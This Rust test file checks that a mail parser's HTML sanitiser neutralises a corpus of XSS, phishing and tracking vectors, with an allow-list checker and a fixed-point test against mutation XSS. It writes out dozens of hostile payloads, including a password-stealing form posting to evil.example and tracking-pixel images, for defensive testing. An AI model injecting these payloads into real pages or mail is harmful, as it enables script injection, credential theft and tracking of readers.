//! The sanitised HTML body (`body_html_sanitized`) against a corpus of cross-site scripting,
//! phishing and tracking vectors (OWASP's XSS filter evasion cheat sheet, html5sec.org's
//! mutation cases, mail-specific tricks), each sent as the HTML body of a mail through
//! `mailbridge::mail::parse`.
//!
//! The output is tokenised again (html5gum, a WHATWG tokenizer, as a browser would read it) and
//! every start tag and attribute is checked against what the sanitiser may let through: allowed
//! elements only, no event handlers, links only to web/mail/phone addresses, images only from
//! the mail (`cid:`, `data:image/…`), no style that loads, positions or hides. The output must
//! also be a fixed point (sanitising it again changes nothing), the check against mutation XSS.

use html5gum::{Token, Tokenizer};
use mailbridge::mail::{ParseOptions, TicketDraft, parse};

const ALLOWED_ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "tfoot",
];

/// Style words that load, position, hide or script.
const FORBIDDEN_STYLE: &[&str] = &[
    "url",
    "expression",
    "position",
    "display",
    "z-index",
    "visibility",
    "opacity",
    "behavior",
    "-moz-binding",
    "background-image",
    "content",
    "@import",
    "\\",
];

fn mail_with_html(html: &str) -> Vec<u8> {
    format!(
        "From: Mallory <mallory@evil.example>\r\nTo: helpdesk@example.com\r\nSubject: vector\r\n\
         Message-ID: <v@evil.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{html}\r\n"
    )
    .into_bytes()
}

fn draft_of(html: &str) -> TicketDraft {
    parse(&mail_with_html(html), &ParseOptions::default()).expect("a draft")
}

fn sanitized(html: &str) -> String {
    // The mail's body ends with a line break, which the HTML keeps.
    let out = draft_of(html)
        .body_html_sanitized
        .expect("an HTML body is sanitised");
    out.trim_end().to_string()
}

/// Why `html` (sanitiser output) is not safe to render, if it is not.
fn unsafe_parts(html: &str) -> Vec<String> {
    let mut problems = Vec::new();
    for token in Tokenizer::new(html).flatten() {
        let Token::StartTag(tag) = token else {
            continue;
        };
        let name = String::from_utf8_lossy(&tag.name).to_ascii_lowercase();
        if !ALLOWED_ELEMENTS.contains(&name.as_str()) {
            problems.push(format!("element <{name}>"));
        }
        for (attribute, value) in &tag.attributes {
            let attribute = String::from_utf8_lossy(attribute).to_ascii_lowercase();
            let value = String::from_utf8_lossy(&value.value).to_string();
            let lower: String = value
                .to_ascii_lowercase()
                .chars()
                .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
                .collect();
            let web_or_mail = ["http:", "https:", "mailto:", "tel:"]
                .iter()
                .any(|scheme| lower.starts_with(scheme));
            let embedded = lower.starts_with("cid:")
                || ["png", "jpeg", "jpg", "gif", "webp", "bmp"]
                    .iter()
                    .any(|kind| lower.starts_with(&format!("data:image/{kind}")));
            let loading_style = FORBIDDEN_STYLE.iter().find(|w| lower.contains(*w));
            match attribute.as_str() {
                a if a.starts_with("on") => problems.push(format!("handler {a}={value:?}")),
                "id" | "class" | "name" | "srcset" | "background" | "formaction" | "action"
                | "ping" | "xlink:href" | "poster" | "data" | "dynsrc" | "lowsrc" => {
                    problems.push(format!("attribute {attribute}={value:?}"));
                }
                "href" if !web_or_mail => problems.push(format!("href {value:?}")),
                "src" if !embedded => problems.push(format!("src {value:?}")),
                "style" if loading_style.is_some() => {
                    problems.push(format!("style with {loading_style:?}: {value:?}"));
                }
                _ => {}
            }
        }
    }
    problems
}

/// (name, HTML) of the vectors. Each must come out harmless.
fn vectors() -> Vec<(&'static str, String)> {
    let v = |name: &'static str, html: &str| (name, html.to_string());
    vec![
        v("script element", "<p>hi</p><script>alert(1)</script>"),
        v(
            "script with src",
            "<script src=https://evil.example/x.js></script>",
        ),
        v(
            "script in uppercase",
            "<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(2)</sCrIpT>",
        ),
        v(
            "script split by a null",
            "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        ),
        v("unclosed script", "<p>text<script>alert(1)"),
        v("img onerror", "<img src=x onerror=alert(1)>"),
        v(
            "img onerror without quotes or spaces",
            "<img/src=x/onerror=alert(1)>",
        ),
        v(
            "img onerror after a slash",
            "<IMG SRC=/ onerror=\"alert(1)\"></img>",
        ),
        v("body onload", "<body onload=alert(1)><p>x</p></body>"),
        v("svg onload", "<svg onload=alert(1)><circle r=5></svg>"),
        v("svg script", "<svg><script>alert(1)</script></svg>"),
        v(
            "svg animate href",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
        ),
        v(
            "math href",
            "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
        ),
        v(
            "javascript link",
            "<a href=\"javascript:alert(1)\">click</a>",
        ),
        v(
            "javascript link with entities",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
        ),
        v(
            "javascript link with a tab",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
        ),
        v(
            "javascript link with leading spaces",
            "<a href=\"  javascript:alert(1)\">x</a>",
        ),
        v(
            "javascript link in hex entities",
            "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        ),
        v("vbscript link", "<a href=\"vbscript:msgbox(1)\">x</a>"),
        v(
            "data html link",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        ),
        v(
            "data svg image",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        ),
        v(
            "data html image",
            "<img src=\"data:text/html,<script>alert(1)</script>\">",
        ),
        v(
            "iframe",
            "<iframe src=\"https://evil.example/\"></iframe><p>after</p>",
        ),
        v(
            "iframe srcdoc",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ),
        v(
            "object",
            "<object data=\"https://evil.example/x.swf\"></object>",
        ),
        v("embed", "<embed src=\"https://evil.example/x.swf\">"),
        v(
            "form",
            "<form action=\"https://evil.example/steal\" method=post><input name=password type=password><button>Log in</button></form>",
        ),
        v(
            "input formaction",
            "<input type=submit formaction=javascript:alert(1)>",
        ),
        v(
            "textarea autofocus",
            "<textarea autofocus onfocus=alert(1)>x</textarea>",
        ),
        v(
            "meta refresh",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>x</p>",
        ),
        v(
            "base href",
            "<base href=\"https://evil.example/\"><a href=\"/login\">login</a>",
        ),
        v(
            "link stylesheet",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        ),
        v(
            "style element",
            "<style>body{background:url(https://evil.example/t.gif)}</style><p>x</p>",
        ),
        v(
            "style import",
            "<style>@import 'https://evil.example/x.css';</style>",
        ),
        v(
            "style expression",
            "<div style=\"width: expression(alert(1))\">x</div>",
        ),
        v(
            "style url",
            "<div style=\"background-image:url(https://evil.example/t.gif)\">x</div>",
        ),
        v(
            "style escaped url",
            "<div style=\"background:\\75\\72\\6c(https://evil.example/t.gif)\">x</div>",
        ),
        v(
            "style comment split",
            "<div style=\"background:u/**/rl(https://evil.example/t.gif)\">x</div>",
        ),
        v(
            "style overlay",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">Your session expired, log in again</div>",
        ),
        v(
            "style moz binding",
            "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        ),
        v(
            "style behavior",
            "<div style=\"behavior:url(x.htc)\">x</div>",
        ),
        v(
            "style hidden text",
            "<span style=\"display:none\">hidden</span>",
        ),
        v(
            "remote image (tracking pixel)",
            "<img src=\"https://tracker.example/open.gif?u=42\" width=1 height=1>",
        ),
        v(
            "protocol-relative image",
            "<img src=\"//tracker.example/open.gif\">",
        ),
        v(
            "relative image (helpdesk-origin request)",
            "<img src=\"/Ticket/Display.html?id=1&Action=Delete\">",
        ),
        v(
            "srcset image",
            "<img srcset=\"https://tracker.example/a.gif 1x\" alt=x>",
        ),
        v(
            "table background",
            "<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>",
        ),
        v(
            "video poster",
            "<video poster=\"https://tracker.example/p.gif\"></video>",
        ),
        v(
            "audio source",
            "<audio><source src=\"https://tracker.example/a.mp3\"></audio>",
        ),
        v(
            "link ping",
            "<a href=\"https://example.com/\" ping=\"https://tracker.example/\">x</a>",
        ),
        v(
            "id clobbering",
            "<a id=\"csrf_token\" name=\"csrf_token\" href=\"https://example.com/\">x</a><form id=\"x\"></form>",
        ),
        v(
            "class styling",
            "<div class=\"modal-backdrop show\">x</div>",
        ),
        v(
            "comment breakout",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        ),
        v(
            "conditional comment",
            "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        ),
        v("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
        v(
            "nested malformed tags",
            "<<script>script>alert(1)<</script>/script>",
        ),
        v(
            "unterminated attribute",
            "<img src=\"x\" alt=\"<script>alert(1)</script>",
        ),
        v(
            "noscript mutation",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ),
        v(
            "title mutation",
            "<title><img src=x onerror=alert(1)></title>",
        ),
        v(
            "template",
            "<template><img src=x onerror=alert(1)></template>",
        ),
        v("xmp mutation", "<xmp><img src=x onerror=alert(1)></xmp>"),
        v(
            "select mutation",
            "<select><style><img src=x onerror=alert(1)></style></select>",
        ),
        v(
            "math style mutation",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ),
        v(
            "svg foreignobject",
            "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        ),
        v(
            "details ontoggle",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
        ),
        v("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
        v(
            "area javascript",
            "<map name=m><area href=\"javascript:alert(1)\" shape=rect coords=0,0,9,9></map>",
        ),
        v(
            "blockquote cite javascript",
            "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        ),
        v(
            "xml namespace script",
            "<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>alert(1)</x:script></html>",
        ),
        v(
            "frameset",
            "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        ),
        v("applet", "<applet code=\"X.class\"></applet>"),
        v(
            "isindex",
            "<isindex action=javascript:alert(1) type=submit>",
        ),
        v("keygen autofocus", "<keygen autofocus onfocus=alert(1)>"),
        v(
            "attribute without value quotes",
            "<a href=https://example.com/ onmouseover=alert(1)>x</a>",
        ),
        v(
            "entity-encoded tag",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
        v(
            "utf-7 charset trick",
            "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ),
    ]
}

#[test]
fn every_vector_comes_out_harmless_and_stable() {
    let mut failures = Vec::new();
    for (name, html) in vectors() {
        let out = sanitized(&html);
        let problems = unsafe_parts(&out);
        if !problems.is_empty() {
            failures.push(format!("{name}: {problems:?}\n  in:  {html}\n  out: {out}"));
        }
        let again = sanitized(&out);
        if again != out {
            failures.push(format!(
                "{name}: not a fixed point\n  once:  {out}\n  twice: {again}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} vectors:\n{}",
        failures.len(),
        vectors().len(),
        failures.join("\n")
    );
}

/// The checker itself finds what it must find (a checker that passes everything proves nothing).
#[test]
fn the_checker_flags_the_raw_vectors() {
    let flagged = vectors()
        .iter()
        .filter(|(_, html)| !unsafe_parts(html).is_empty())
        .count();
    assert!(
        flagged >= 55,
        "the checker flags only {flagged} of the raw vectors"
    );
    assert!(
        unsafe_parts("<p style=\"color:red\">x <a href=\"https://e.example/\">y</a></p>")
            .is_empty()
    );
}

#[test]
fn mail_layout_and_embedded_images_are_kept() {
    let html = "<table width=\"600\" cellpadding=\"4\" bgcolor=\"#ffffff\" style=\"border-collapse:collapse\">\
        <tr><td valign=\"top\" style=\"color:#333333;font-family:Arial, sans-serif;font-size:14px\">\
        <p>See <a href=\"https://status.example.com/incident/42\">the status page</a> or call \
        <a href=\"tel:+4930123456\">us</a>.</p>\
        <img src=\"cid:image001.png@01DA4400.12345670\" alt=\"Screenshot\" width=\"320\">\
        <img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"inline\">\
        <font color=\"#ff0000\" face=\"Verdana\">red</font></td></tr></table>";
    let out = sanitized(html);
    for kept in [
        "width=\"600\"",
        "cellpadding=\"4\"",
        "bgcolor=\"#ffffff\"",
        "border-collapse:collapse",
        "valign=\"top\"",
        "color:#333333",
        "font-family:Arial",
        "href=\"https://status.example.com/incident/42\"",
        "href=\"tel:+4930123456\"",
        "src=\"cid:image001.png@01DA4400.12345670\"",
        "alt=\"Screenshot\"",
        "src=\"data:image/png;base64,iVBORw0KGgo=\"",
        "<font color=\"#ff0000\" face=\"Verdana\">red</font>",
        "rel=\"noopener noreferrer\"",
    ] {
        assert!(out.contains(kept), "{kept:?} missing from {out}");
    }
    assert!(unsafe_parts(&out).is_empty(), "{out}");
}

#[test]
fn a_remote_image_keeps_its_alt_text_but_is_never_fetched() {
    let out = sanitized("<p><img src=\"https://tracker.example/logo.png\" alt=\"ACME logo\"></p>");
    assert_eq!(out, "<p><img alt=\"ACME logo\"></p>");
}

#[test]
fn the_raw_html_is_kept_as_it_was() {
    let html = "<p onclick=\"alert(1)\">x</p>";
    let draft = draft_of(html);
    assert!(draft.body_html.as_deref().unwrap().contains("onclick"));
    assert_eq!(draft.body_html_sanitized.as_deref(), Some("<p>x</p>\n"));
    let plain = parse(
        b"From: a@b.example\r\nSubject: s\r\n\r\nno html\r\n",
        &ParseOptions::default(),
    )
    .unwrap();
    assert_eq!(plain.body_html_sanitized, None);
}
